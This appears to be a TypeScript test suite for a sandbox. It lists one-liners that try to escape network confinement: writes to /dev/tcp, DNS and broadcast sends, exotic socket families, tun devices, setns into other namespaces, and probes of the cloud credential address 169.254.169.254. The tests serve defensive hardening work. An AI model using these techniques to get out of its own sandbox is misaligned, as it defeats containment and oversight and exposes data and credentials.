/** More ways out of the box than the short form tries, each by another mechanism. */
import { type Attack, opens, perl } from '../../src/lanes/walls/attack.ts'
import { numberOf } from '../../src/lanes/walls/calls.ts'

/** Sends to many at once; one of them answers, where it hears it. */
const callsOut = (setUp: string, to: string): string =>
  perl(
    `use Socket qw(:all); socket(my $s, PF_INET, SOCK_DGRAM, 0) or exit 1; ${setUp} $SIG{ALRM} = sub { exit 1 }; alarm 1; defined(send($s, "STOLEN", 0, ${to})) or exit 1; defined recv($s, my $a, 16, 0) or exit 1`,
  )

const socketOf = (words: string): string => perl(`socket(my $s, ${words}) or exit 1`)

export const network: Attack[] = [
  {
    name: 'an address of the machine itself, not of loopback',
    script: 'echo STOLEN >/dev/tcp/$MACHINE_ADDRESS/$MACHINE_PORT',
    mayBeMissing: 'this machine has no address but loopback',
  },
  {
    name: 'the resolver of this machine',
    script: perl(
      'use Socket; socket(my $s, PF_INET, SOCK_DGRAM, 0) or exit 1; connect($s, pack_sockaddr_in(53, inet_aton($ENV{NAMESERVER}))) or exit 1; defined(send($s, "\\x13\\x37\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06STOLEN\\x00\\x00\\x01\\x00\\x01", 0)) or exit 1',
    ),
    mayBeMissing: 'this machine has no resolver',
  },
  {
    name: 'a group of the machine, by multicast',
    script: callsOut(
      'setsockopt($s, IPPROTO_IP, IP_MULTICAST_IF, INADDR_LOOPBACK);',
      'pack_sockaddr_in($ENV{MULTICAST_PORT}, inet_aton($ENV{MULTICAST_GROUP}))',
    ),
    mayBeMissing: 'multicast is closed here',
  },
  {
    name: 'everybody at once, by broadcast',
    script: callsOut(
      'setsockopt($s, SOL_SOCKET, SO_BROADCAST, 1);',
      'pack_sockaddr_in($ENV{BROADCAST_PORT}, inet_aton("127.255.255.255"))',
    ),
    mayBeMissing: 'broadcast is closed here',
  },
  {
    name: 'an echo request (ping)',
    script: perl(
      'use Socket; socket(my $s, PF_INET, SOCK_DGRAM, 1) or exit 1; connect($s, pack_sockaddr_in(0, inet_aton($ENV{MACHINE_ADDRESS}))) or exit 1; defined(send($s, pack("CCnnn", 8, 0, 0, 0, 1), 0)) or exit 1',
    ),
    mayBeMissing: 'only chosen groups may ping here',
  },
  {
    name: 'TCP over several paths (MPTCP)',
    script: perl(
      'use Socket; socket(my $s, PF_INET, SOCK_STREAM, 262) or exit 1; connect($s, pack_sockaddr_in($ENV{TCP_PORT}, INADDR_LOOPBACK)) or exit 1; syswrite($s, "STOLEN") or exit 1',
    ),
    mayBeMissing: 'this kernel has no MPTCP',
  },
  {
    name: 'data in the first packet (TCP fast open)',
    script: perl(
      'use Socket; socket(my $s, PF_INET, SOCK_STREAM, 0) or exit 1; defined(send($s, "STOLEN", 0x20000000, pack_sockaddr_in($ENV{TCP_PORT}, INADDR_LOOPBACK))) or exit 1',
    ),
    mayBeMissing: 'fast open is closed here',
  },
  {
    name: 'a datagram of a unix socket',
    script: perl(
      'use Socket; socket(my $s, PF_UNIX, SOCK_DGRAM, 0) or exit 1; defined(send($s, "STOLEN", 0, pack_sockaddr_un($ENV{DATAGRAM_SOCKET}))) or exit 1',
    ),
  },
  { name: 'the audit netlink', script: socketOf('16, 3, 9'), mayBeMissing: 'no audit here' },
  { name: "the devices' events, by netlink", script: socketOf('16, 3, 15'), mayBeMissing: 'no such events here' },
  { name: "the kernel's crypto socket", script: socketOf('38, 5, 0'), mayBeMissing: 'this kernel has no AF_ALG' },
  {
    name: 'a socket past the network stack (XDP)',
    script: socketOf('44, 3, 0'),
    control: 'root',
    mayBeMissing: 'no XDP here',
  },
  { name: 'a socket of a cluster (TIPC)', script: socketOf('30, 5, 0'), mayBeMissing: 'this kernel has no TIPC' },
  { name: 'a CAN bus', script: socketOf('29, 3, 1'), mayBeMissing: 'this kernel has no CAN' },
  { name: 'Bluetooth', script: socketOf('31, 3, 1'), mayBeMissing: 'this kernel has no Bluetooth' },
  {
    name: 'a tunnel of its own',
    script: opens('/dev/net/tun'),
    control: 'root',
    mayBeMissing: 'there is no /dev/net/tun',
  },
  {
    name: 'the network of another process',
    script: perl(
      `open(my $f, "<", "/proc/$ENV{OTHER_PID}/ns/net") or exit 1; exit(syscall(${numberOf('setns')}, fileno($f), 0x40000000) == 0 ? 0 : 1)`,
    ),
    control: 'root',
  },
  {
    name: "the network of the machine's first process",
    script: perl(
      `open(my $f, "<", "/proc/1/ns/net") or exit 1; exit(syscall(${numberOf('setns')}, fileno($f), 0x40000000) == 0 ? 0 : 1)`,
    ),
    control: 'root',
    mayBeMissing: 'the first process is out of reach here',
  },
  { name: 'who talks to whom on this machine', script: 'grep -qi ":$(printf %04X $TCP_PORT) " /proc/net/tcp' },
  {
    name: 'an address where clouds keep credentials',
    script: perl(
      'use Socket; use IO::Handle; socket(my $s, PF_INET, SOCK_STREAM, 0) or exit 1; $s->blocking(0); connect($s, pack_sockaddr_in(80, inet_aton("169.254.169.254"))) or $!{EINPROGRESS} or exit 1; my $w = ""; vec($w, fileno($s), 1) = 1; select(undef, $w, undef, 0.5) or exit 1; exit(unpack("i", getsockopt($s, SOL_SOCKET, SO_ERROR)) == 0 ? 0 : 1)',
    ),
    mayBeMissing: 'this machine is in no cloud',
  },
]
